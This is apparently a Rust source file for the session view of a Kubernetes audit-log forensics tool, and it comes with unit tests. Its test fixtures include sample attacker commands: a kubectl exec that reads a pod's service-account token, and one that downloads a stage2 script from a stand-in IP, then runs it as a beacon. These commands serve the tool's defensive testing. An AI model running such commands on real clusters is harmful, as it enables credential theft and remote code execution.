//! The session view (`S`): an identity's requests as the kubectl (or curl) commands that
//! made them, grouped into sessions by idle gaps — exactly what `kubesift sessions` prints
//! (`story::sessions`, computed by the index thread). Each session is headed by its span,
//! source address and client; an exec shows its decoded command. The command under the
//! cursor shows in full below the list; Enter opens its event, `c` copies it; `q` goes back
//! and the view keeps its place.

use std::fmt::Write as _;

use ratatui::Frame;
use ratatui::layout::Rect;
use ratatui::text::{Line, Span};

use super::lines::{self, Cursor};
use super::{Component, Ctx, Intent, columns};
use crate::model::Micros;
use crate::story::Identity;
use crate::story::sessions::{ActorSession, Command};
use crate::tui::action::Action;
use crate::tui::protocol::Request;
use crate::tui::theme::{self, clean};

/// One line of the view.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Row {
    /// A session's heading: span, address, client.
    Session(usize),
    /// Its counts and credentials.
    Info(usize),
    /// A command of a session.
    Command(usize, usize),
    Blank,
}

/// Whose sessions, the sessions, and the place in them.
#[derive(Debug, Clone, Default)]
pub struct SessionView {
    pub who: Option<Identity>,
    pub sessions: Vec<ActorSession>,
    pub loading: bool,
    /// The event whose command the cursor goes to when the sessions arrive.
    focus: Option<String>,
    rows: Vec<Row>,
    pub cursor: Cursor,
}

impl SessionView {
    /// Waiting for the sessions of `who`; the cursor will go to the command of the event
    /// `focus` (an audit ID).
    pub fn loading(who: Identity, focus: Option<String>) -> SessionView {
        SessionView {
            who: Some(who),
            loading: true,
            focus,
            ..SessionView::default()
        }
    }

    /// The sessions arrived: the cursor goes to the command of the focused event, else to
    /// the first command.
    pub fn on_sessions(&mut self, sessions: Vec<ActorSession>, ctx: &Ctx<'_>) {
        self.loading = false;
        self.rows = rows_of(&sessions);
        self.sessions = sessions;
        self.cursor = Cursor::default();
        let focus = self.focus.take();
        self.focus_on(focus.as_deref(), ctx);
    }

    /// Puts the cursor on the command that holds event `audit_id` (else, with no cursor
    /// yet, on the first command).
    pub fn focus_on(&mut self, audit_id: Option<&str>, ctx: &Ctx<'_>) {
        let holds = |r: &Row| match (r, audit_id) {
            (Row::Command(s, c), Some(id)) => self
                .sessions
                .get(*s)
                .and_then(|s| s.commands.get(*c))
                .is_some_and(|c| c.audit_ids.iter().any(|a| a == id)),
            _ => false,
        };
        let line = self.rows.iter().position(holds).or_else(|| {
            (self.cursor.line == 0)
                .then(|| self.rows.iter().position(|r| matches!(r, Row::Command(..))))
                .flatten()
        });
        if let Some(line) = line {
            // Shown under its session's heading when both fit, else a few lines down.
            let heading = self.rows[..line]
                .iter()
                .rposition(|r| matches!(r, Row::Session(_)))
                .unwrap_or(0);
            let visible = usize::try_from(lines::visible(ctx.size)).unwrap_or(usize::MAX);
            let scroll = if line - heading < visible {
                heading
            } else {
                line.saturating_sub(3)
            };
            // Never past the list's end at the bottom: a command near the end of a long
            // session left the list half empty.
            self.cursor.scroll = scroll.min(self.rows.len().saturating_sub(visible));
            self.cursor.select(line as u64, ctx);
        }
    }

    /// The account (or credential) the view is about.
    pub fn name(&self) -> String {
        match &self.who {
            Some(Identity::Account(a)) => crate::story::account_username(a),
            Some(Identity::Credential(c)) => c.clone(),
            None => String::new(),
        }
    }

    fn command(&self, row: usize) -> Option<&Command> {
        match self.rows.get(row)? {
            Row::Command(s, c) => self.sessions.get(*s)?.commands.get(*c),
            _ => None,
        }
    }
}

fn rows_of(sessions: &[ActorSession]) -> Vec<Row> {
    let mut rows = Vec::new();
    for (i, s) in sessions.iter().enumerate() {
        if i > 0 {
            rows.push(Row::Blank);
        }
        rows.push(Row::Session(i));
        rows.push(Row::Info(i));
        rows.extend((0..s.commands.len()).map(|c| Row::Command(i, c)));
    }
    rows
}

impl Component for SessionView {
    fn len(&self, _ctx: &Ctx<'_>) -> u64 {
        self.rows.len() as u64
    }

    fn position(&self) -> u64 {
        self.cursor.line as u64
    }

    fn select(&mut self, pos: u64, ctx: &Ctx<'_>) -> Option<Request> {
        self.cursor.select(pos, ctx);
        None
    }

    fn on_action(&mut self, action: &Action, _ctx: &Ctx<'_>) -> Intent {
        let Some(c) = self.command(self.cursor.line) else {
            return match action {
                Action::Open => Intent::Status("enter on a command opens its event".into()),
                _ => Intent::Ignored,
            };
        };
        match action {
            Action::Open => {
                let audit_id = if c.event.is_empty() {
                    c.audit_ids.last().cloned().unwrap_or_default()
                } else {
                    c.event.clone()
                };
                Intent::Detail {
                    handle: None,
                    request: Request::EventById { id: 0, audit_id },
                }
            }
            Action::Copy => Intent::Copy(c.command.clone()),
            _ => Intent::Ignored,
        }
    }

    /// Its own identity: `S` here stays.
    fn identity(&self, _ctx: &Ctx<'_>) -> Option<super::Focus> {
        super::Focus::of(&self.name(), None)
    }

    fn clicked(&self, line: u64, ctx: &Ctx<'_>) -> Option<u64> {
        self.cursor.clicked(line, self.len(ctx))
    }

    fn render(&self, ctx: &Ctx<'_>, frame: &mut Frame, area: Rect) {
        let name = clean(&self.name()).into_owned();
        let shown = if area.width < 100 {
            columns::short_account(&name)
        } else {
            name.clone()
        };
        let commands: usize = self.sessions.iter().map(|s| s.commands.len()).sum();
        let title = if self.loading {
            format!(" sessions of {shown} — loading… ")
        } else {
            format!(
                " sessions of {shown} — {} · {commands} commands (idle gap 30m; enter: its event) ",
                crate::model::plural(self.sessions.len(), "session")
            )
        };
        let narrow = area.width < 100;
        let mut drawn: Vec<Line<'static>> = self
            .rows
            .iter()
            .map(|r| self.line(*r, ctx, narrow))
            .collect();
        if drawn.is_empty() && !self.loading {
            drawn.push(Line::from(Span::styled(
                format!("  no requests of {name} in the index"),
                theme::dim(),
            )));
        }
        // Inside the pane's borders.
        let inner = area.width.saturating_sub(2);
        let full = self.command(self.cursor.line).map(|c| full(c, ctx, inner));
        lines::render(frame, area, &title, drawn, self.cursor, full);
    }

    fn shortcuts(&self) -> &'static [(Action, &'static str)] {
        &[(Action::Open, "its event"), (Action::Copy, "copy command")]
    }
}

/// A clock time, with the date on a wide terminal.
fn time(t: Micros, ctx: &Ctx<'_>, narrow: bool) -> String {
    columns::time_cell(t, ctx.tz, if narrow { 8 } else { 19 })
}

impl SessionView {
    fn line(&self, row: Row, ctx: &Ctx<'_>, narrow: bool) -> Line<'static> {
        match row {
            Row::Blank => Line::default(),
            Row::Session(i) => {
                let Some(s) = self.sessions.get(i) else {
                    return Line::default();
                };
                let text = format!(
                    "── session {} · {} .. {} · from {} · {}",
                    s.session,
                    time(s.start, ctx, narrow),
                    columns::time_cell(s.end, ctx.tz, 8),
                    or_none(&s.source_ip),
                    or_none(&s.client)
                );
                Line::from(Span::styled(clean(&text).into_owned(), theme::title()))
            }
            Row::Info(i) => {
                let Some(s) = self.sessions.get(i) else {
                    return Line::default();
                };
                let mut text = format!(
                    "   {} · {} folded into commands · {} denied",
                    crate::model::plural(s.requests, "request"),
                    s.folded,
                    s.denied
                );
                if !s.credentials.is_empty() {
                    let _ = write!(text, " · credential {}", s.credentials.join(", "));
                }
                Line::from(Span::styled(clean(&text).into_owned(), theme::dim()))
            }
            Row::Command(s, c) => {
                let Some(cmd) = self.sessions.get(s).and_then(|s| s.commands.get(c)) else {
                    return Line::default();
                };
                let mut spans = vec![
                    Span::styled(
                        format!("   {}  ", columns::time_cell(cmd.time, ctx.tz, 8)),
                        theme::dim(),
                    ),
                    Span::raw(clean(&cmd.command).into_owned()),
                ];
                if cmd.count > 1 {
                    spans.push(Span::styled(format!("  ×{}", cmd.count), theme::dim()));
                }
                if cmd.denied > 0 {
                    spans.push(Span::styled(
                        format!("  [denied {}]", cmd.denied),
                        theme::error(),
                    ));
                }
                if let Some(k) = cmd.kubectl_equivalent() {
                    spans.push(Span::styled(format!("  ≈ {}", clean(k)), theme::dim()));
                }
                Line::from(spans)
            }
        }
    }
}

/// The command under the cursor in full: when, how often, the command, its curl twin, the
/// audit ID of its request; `width`: the pane's.
fn full(c: &Command, ctx: &Ctx<'_>, width: u16) -> Vec<Line<'static>> {
    let mut head = columns::time_cell(c.time, ctx.tz, 23);
    if let Some(last) = c.last {
        let _ = write!(
            head,
            " .. {} ({} times)",
            columns::time_cell(last, ctx.tz, 12),
            c.count
        );
    }
    if let Some(code) = c.code {
        let _ = write!(head, " · {code}");
    }
    // The request the line opens (`kubesift show` takes it): on the first line when it fits
    // there whole, else last.
    let id = (!c.event.is_empty()).then(|| format!("audit ID {}", clean(&c.event)));
    let mut tail = None;
    if let Some(id) = id {
        if head.chars().count() + 3 + id.chars().count() <= usize::from(width) {
            let _ = write!(head, " · {id}");
        } else {
            tail = Some(Line::from(Span::styled(id, theme::dim())));
        }
    }
    // The command first: at 80x24 the pane has three lines, and the time and code (also on
    // the command's row of the list) pushed a long command's end out of it.
    let mut out = Vec::new();
    // An exec's command on a line of its own, so that it wraps apart from kubectl's flags.
    match c.command.split_once(" -- ") {
        Some((kubectl, command)) => out.extend([
            Line::from(clean(&format!("{kubectl} --")).into_owned()),
            Line::from(clean(&format!("  {command}")).into_owned()),
        ]),
        None => out.push(Line::from(clean(&c.command).into_owned())),
    }
    out.push(Line::from(Span::styled(head, theme::dim())));
    if let Some(k) = c.kubectl_equivalent() {
        out.push(Line::from(clean(&format!("≈ {k}")).into_owned()));
    }
    if c.command != c.curl {
        out.push(Line::from(Span::styled(
            clean(&c.curl).into_owned(),
            theme::dim(),
        )));
    }
    out.extend(tail);
    out
}

fn or_none(s: &str) -> &str {
    if s.is_empty() { "-" } else { s }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tui::components::testing::Shared;

    fn command(t: i64, text: &str, event: &str) -> Command {
        Command {
            time: Micros(1_773_484_260_000_000 + t * 1_000_000),
            last: None,
            command: text.into(),
            kubectl: Some(text.into()),
            curl: "curl -X GET https://kubernetes/api/v1/namespaces/shop/pods".into(),
            count: 1,
            code: Some(200),
            denied: 0,
            audit_ids: vec![format!("chatter-{t}"), event.into()],
            event: event.into(),
        }
    }

    fn sessions() -> Vec<ActorSession> {
        let mut exec = command(
            40,
            "kubectl exec -it -n shop web-0 -c app -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token\x1b[31m'",
            "exec-1",
        );
        exec.count = 3;
        exec.last = Some(Micros(exec.time.0 + 60_000_000));
        exec.denied = 1;
        vec![ActorSession {
            session: 1,
            start: Micros(1_773_484_260_000_000),
            end: Micros(1_773_484_400_000_000),
            user: "system:serviceaccount:shop:web".into(),
            source_ip: "198.51.100.77".into(),
            client: "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350".into(),
            client_family: "kubectl".into(),
            credentials: vec!["JTI=abc".into()],
            requests: 9,
            folded: 4,
            denied: 1,
            commands: vec![command(0, "kubectl get pods -n shop", "get-1"), exec],
        }]
    }

    fn view() -> SessionView {
        view_of(sessions())
    }

    fn view_of(sessions: Vec<ActorSession>) -> SessionView {
        let shared = Shared::default();
        let mut v = SessionView::loading(
            Identity::Account("system:serviceaccount:shop:web".into()),
            None,
        );
        v.on_sessions(sessions, &shared.ctx());
        v
    }

    fn drawn(v: &SessionView, ctx: &Ctx<'_>, size: (u16, u16)) -> String {
        crate::tui::components::testing::drawn(v, ctx, size)
    }

    /// The main area of a `width` × `height` screen (its header and hints taken away) with
    /// the cursor on the session's exec.
    fn on_the_exec(mut v: SessionView, width: u16, height: u16) -> String {
        let shared = Shared::sized(width, height);
        let ctx = shared.ctx();
        v.select(3, &ctx);
        drawn(&v, &ctx, (width, height - 3))
    }

    #[test]
    fn enter_on_a_command_opens_the_event_that_made_it_not_its_chatter() {
        let shared = Shared::default();
        let ctx = shared.ctx();
        let mut v = view();
        assert_eq!(v.position(), 2, "the cursor starts on the first command");
        v.select(3, &ctx);
        assert_eq!(
            v.on_action(&Action::Open, &ctx),
            Intent::Detail {
                handle: None,
                request: Request::EventById {
                    id: 0,
                    audit_id: "exec-1".into()
                }
            }
        );
        assert!(
            matches!(v.on_action(&Action::Copy, &ctx), Intent::Copy(c) if c.starts_with("kubectl exec"))
        );
        v.select(0, &ctx);
        assert!(matches!(
            v.on_action(&Action::Open, &ctx),
            Intent::Status(_)
        ));
    }

    #[test]
    fn sessions_at_80x24_snapshot() {
        let s = on_the_exec(view(), 80, 24);
        assert!(!s.contains('\x1b'), "a log string reached the terminal raw");
        assert!(s.contains("session 1"), "{s}");
        assert!(s.contains("from 198.51.100.77"), "{s}");
        assert!(
            s.contains("serviceaccount/token"),
            "the decoded exec in full below the list: {s}"
        );
        insta::assert_snapshot!("sessions_80x21", s);
    }

    #[test]
    fn regression_the_sessions_title_was_clipped_by_the_border_without_an_ellipsis() {
        let shared = Shared::default();
        let ctx = shared.ctx();
        let s = drawn(&view(), &ctx, (80, 21));
        let top = s.lines().next().unwrap_or_default();
        assert!(top.contains("…"), "{top}");
        assert!(top.trim_end().ends_with('┐'), "{top}");
    }

    #[test]
    fn regression_sessions_opened_on_a_late_command_scrolled_the_list_half_empty() {
        let shared = Shared::sized(80, 24);
        let ctx = shared.ctx();
        let mut long = sessions();
        long[0].commands = (0..40)
            .map(|i| {
                command(
                    i,
                    &format!("kubectl get pods -n ns-{i}"),
                    &format!("ev-{i}"),
                )
            })
            .collect();
        let mut v = SessionView::loading(
            Identity::Account("system:serviceaccount:shop:web".into()),
            Some("ev-39".into()),
        );
        v.on_sessions(long, &ctx);
        let visible = usize::try_from(lines::visible(ctx.size)).unwrap();
        assert_eq!(
            v.cursor.scroll,
            v.rows.len() - visible,
            "the list ends at the bottom"
        );
        assert!(v.cursor.line >= v.cursor.scroll && v.cursor.line < v.cursor.scroll + visible);
        // Early in the session it still shows the command a few lines down.
        v.focus_on(Some("ev-20"), &ctx);
        assert_eq!(
            v.cursor.line,
            v.rows
                .iter()
                .position(|r| matches!(r, Row::Command(0, 20)))
                .unwrap()
        );
    }

    #[test]
    fn regression_a_long_exec_command_was_pushed_out_of_the_pane_at_80x24() {
        let mut long = sessions();
        long[0].commands[1].command = "kubectl exec -n shop web-0 -- sh -c 'curl -s http://203.0.113.9/stage2.sh -o /tmp/s && chmod +x /tmp/s && /tmp/s --beacon END-OF-IT'".into();
        let s = on_the_exec(view_of(long), 80, 24);
        assert!(
            s.contains("END-OF-IT"),
            "the command's end is in the pane: {s}"
        );
    }

    #[test]
    fn a_tall_screen_gives_the_pane_room_for_the_request_as_curl() {
        let s = on_the_exec(view(), 80, 60);
        assert!(s.contains("curl -X GET"), "{s}");
        assert!(!on_the_exec(view(), 80, 24).contains("curl -X GET"));
    }

    #[test]
    fn an_identity_without_requests_says_so() {
        let shared = Shared::default();
        let ctx = shared.ctx();
        let mut v = SessionView::loading(Identity::Account("nobody".into()), None);
        v.on_sessions(Vec::new(), &ctx);
        assert!(drawn(&v, &ctx, (80, 10)).contains("no requests of nobody"));
    }
}
